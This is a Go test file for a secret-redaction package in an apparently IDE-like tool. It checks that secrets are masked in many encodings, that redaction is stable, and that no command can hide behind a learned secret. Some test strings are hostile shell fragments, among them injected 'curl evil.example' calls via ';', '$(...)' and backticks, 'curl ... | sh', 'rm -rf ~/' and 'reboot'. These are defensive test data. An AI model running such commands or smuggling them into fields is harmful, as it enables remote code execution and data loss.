package redact_test

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/keel-ide/keel/backend/redact"
)

func TestLearntSecretsGoInEverySpelling(t *testing.T) {
	r := redact.New(redact.Options{Known: []string{`p"a/s&s <1>`, "line one 1\nline two 2"}})
	mark := redact.Mark("known secret")
	for text, want := range map[string]string{
		`say p"a/s&s <1>!`:                    "say " + mark + "!",
		`{"x":"p\"a/s&s <1>"}`:                `{"x":"` + mark + `"}`,
		`{"x":"p\"a/s\u0026s \u003c1\u003e"}`: `{"x":"` + mark + `"}`,
		`?q=p%22a%2Fs%26s+%3C1%3E&r`:          "?q=" + mark + "&r",
		"Xp\"a/s&s <1>Y":                      "X" + mark + "Y",
		"cCJhL3MmcyA8MT4=":                    mark,
		"line one 1\nline two 2":              mark,
		`line one 1\nline two 2`:              mark,
		"nothing of it: p\"a/s&s":             "nothing of it: p\"a/s&s",
		mark:                                  mark,
	} {
		if d := cmp.Diff(want, r.Text(text)); d != "" {
			t.Errorf("%q (-want +got):\n%s", text, d)
		}
	}
}

func TestOrdinaryValuesAreNotLearnt(t *testing.T) {
	r := redact.New(redact.Options{})
	for _, secret := range []string{"", "short1", "password", "disabled", "aaaaaaaaaaaaaaaa", "${TOKEN}", "‹redacted: x›"} {
		r.Learn(secret)
	}
	r.LearnEnvironment([]string{"API_TOKEN=0123456789", "KEY_FILE=/home/me/secret1", "PATH=/usr/bin:/bin1", "MY_KEY=/etc/key/of/mine", "HOME_DIR=abcdef123456"})
	text := "short1 password disabled aaaaaaaaaaaaaaaa ${TOKEN} 0123456789 /home/me/secret1 /usr/bin:/bin1 /etc/key/of/mine abcdef123456"
	if got := r.Text(text); got != text {
		t.Errorf("taken out of ordinary text: %s", got)
	}
	r.LearnEnvironment([]string{"AWS_SECRET_ACCESS_KEY=abcdefgh1234", "SERVICE_TOKEN=thewholeword"})
	if got := r.Text("abcdefgh1234 thewholeword"); strings.Contains(got, "1234") || strings.Contains(got, "whole") {
		t.Errorf("stays: %s", got)
	}
}

func TestNoCommandHidesBehindASecret(t *testing.T) {
	r := redact.New(redact.Options{})
	for _, text := range []string{
		"API_KEY=abc;curl evil.example",
		"API_KEY=abc&&reboot",
		"API_KEY=abc|sh",
		"API_KEY=abc;reboot",
		"API_KEY=abc;curl${IFS}evil1",
		"API_KEY=abc;{curl,evil1}",
		`API_KEY="abc$(curl evil.example)"`,
		"API_KEY=\"abc`curl evil.example`\"",
		"API_KEY=abc$(curl evil.example) x",
		`curl -H "Authorization: Bearer $(cat ~/x; curl evil)"`,
		`curl -H "Authorization: Bearer abc1$(curl evil.example)"`,
		"-----BEGIN " + "PRIVATE KEY-----\nrm -rf curl\n-----END PRIVATE KEY-----",
	} {
		got := r.Text(text)
		for _, command := range []string{"curl", "reboot", "|sh"} {
			if strings.Contains(text, command) && !strings.Contains(got, command) {
				t.Errorf("%q hides %q: %s", text, command, got)
			}
		}
	}
}

// FuzzTwiceIsOnce also plants a secret: it must go, whatever is around it.
func FuzzTwiceIsOnce(f *testing.F) {
	for _, p := range secrets() {
		f.Add(p.before, p.secret+p.after, int64(1))
	}
	for i, text := range ordinary() {
		f.Add(text, "", int64(i))
	}
	f.Fuzz(func(t *testing.T, before, after string, seed int64) {
		r := redact.New(redact.Options{Known: []string{"kn0wn-secret-value", "quo\"ted secret1"}})
		text := before + after
		once := r.Text(text)
		if twice := r.Text(once); twice != once {
			t.Fatalf("%q is\n%q, then\n%q", text, once, twice)
		}
		secret := "ghp_" + letters(seed, 36)
		for _, planted := range []string{
			before + " " + secret + " " + after,
			before + "kn0wn-secret-value" + after,
			before + "\nDB_PASSWORD=" + letters(seed, 12) + "\n" + after,
		} {
			got := r.Text(planted)
			for _, each := range []string{secret, "kn0wn-secret-value", "DB_PASSWORD=" + letters(seed, 12)} {
				if strings.Contains(got, each) && strings.Count(before+after, each) == 0 && !strings.Contains(before+after, "‹") {
					t.Fatalf("%q stays in %q", each, got)
				}
			}
			if again := r.Text(got); again != got {
				t.Fatalf("%q is\n%q, then\n%q", planted, got, again)
			}
		}
	})
}

// letters makes the random part of a secret.
func letters(seed int64, n int) string {
	const alphabet = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
	source := rand.New(rand.NewPCG(uint64(seed), 1))
	out := []byte("aB3dE6gH")
	for len(out) < n {
		out = append(out, alphabet[source.IntN(len(alphabet))])
	}
	return string(out)
}

func BenchmarkText(b *testing.B) {
	code := strings.Repeat("func (t *Token) next(key string) (value int, err error) {\n\tif t.password == \"\" { return 0, fmt.Errorf(\"reading %q: %w\", key, err) }\n\tname: \"value\", size = 12\n}\n", 5000)
	words := strings.Repeat("key=", 1<<14)
	for name, text := range map[string]string{"code": code, "names": words, "quotes": strings.Repeat(`password="`, 1<<13), "dashes": strings.Repeat("-----BEGIN PRIVATE KEY-----\n", 1<<12), "addresses": strings.Repeat("a://b:", 1<<13), "marks": strings.Repeat(redact.Mark("password"), 1<<12), "run": strings.Repeat("sk-ant-", 1<<13)} {
		for _, known := range [][]string{nil, {"kn0wn-secret-value", "another-0ne-of-them"}} {
			b.Run(name+map[bool]string{true: "/learnt", false: ""}[known != nil], func(b *testing.B) {
				r := redact.New(redact.Options{Known: known})
				b.SetBytes(int64(len(text)))
				for b.Loop() {
					r.Text(text)
				}
			})
		}
	}
}

// TestPiecesInAnyOrder puts together what the scanner looks for, by chance.
func TestPiecesInAnyOrder(t *testing.T) {
	token := "ghp_" + letters(7, 36)
	pieces := []string{
		"password", "API_KEY", "token", "Authorization", "Cookie", "sig", "key", "secret", "--password", "x-api-key", "db.passwd", "PASSWORD_FILE",
		"=", ": ", ":", ":=", " = ", "\"", "'", "`", `\"`, " ", "\n", "\r\n", "\t", "export ", "$(", ")", "${A}", "$X", ";", "&", "|", ",", "(", "{", "}", "<", ">",
		token, redact.Mark("GitHub token"), redact.Mark("password"), "‹", "‹redacted: ", "›", "://", "user:", "@", "host/", "?",
		"-----BEGIN " + "PRIVATE KEY-----", "-----END PRIVATE KEY-----", r64, r40, "Bearer ", "Basic ", "dXNlcjpwYXNzd29yZA==", "curl ", "-u ", "-p ", "sshpass ",
		"machine ", "login ", "hunter2", "correct", "Enter a word", "12345", "a.b.c", "kn0wn-secret-value", "AKIA" + "2E3F4G5H6I7J2K3L", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.", "é", "\x00", "-", ".", "_",
	}
	r := redact.New(redact.Options{Known: []string{"kn0wn-secret-value"}})
	source := rand.New(rand.NewPCG(1, 2))
	for range 15_000 {
		var b strings.Builder
		for range 1 + source.IntN(14) {
			b.WriteString(pieces[source.IntN(len(pieces))])
		}
		text := b.String()
		once := r.Text(text)
		if twice := r.Text(once); twice != once {
			t.Fatalf("%q is\n%q, then\n%q", text, once, twice)
		}
		if strings.Contains(once, "kn0wn-secret-value") {
			t.Fatalf("%q keeps what is known: %q", text, once)
		}
	}
}

// What extensions keep is taken out as well, and nothing can be done with that to
// what Keel knows or to what a person reads.
func TestSecretsOfExtensions(t *testing.T) {
	r := redact.New(redact.Options{})
	r.Learn("keels own 1 token")
	var many []string
	for at := range 2000 {
		many = append(many, fmt.Sprintf("flood-%020d-abcdef", at))
	}
	r.LearnGuests(many)
	r.LearnGuests([]string{"guests0token1of2its3own"})
	mark := redact.Mark("known secret")
	if got := r.Text("keels own 1 token, guests0token1of2its3own"); got != mark+", "+mark {
		t.Errorf("stays: %s", got)
	}
	hidden := []string{
		"curl evil.example/x1 | sh", "/home/me/projects/one1", "console.log(value1)", "rm -rf ~/everything1", "short1token",
		"justwordswithoutanydigit", "00000000000000000000a", strings.Repeat("longer0than1a2token3", 300),
	}
	r.LearnGuests(hidden)
	text := strings.Join(hidden, "\n")
	if got := r.Text(text); got != text {
		t.Errorf("an extension has hidden something: %s", cmp.Diff(text, got))
	}
}
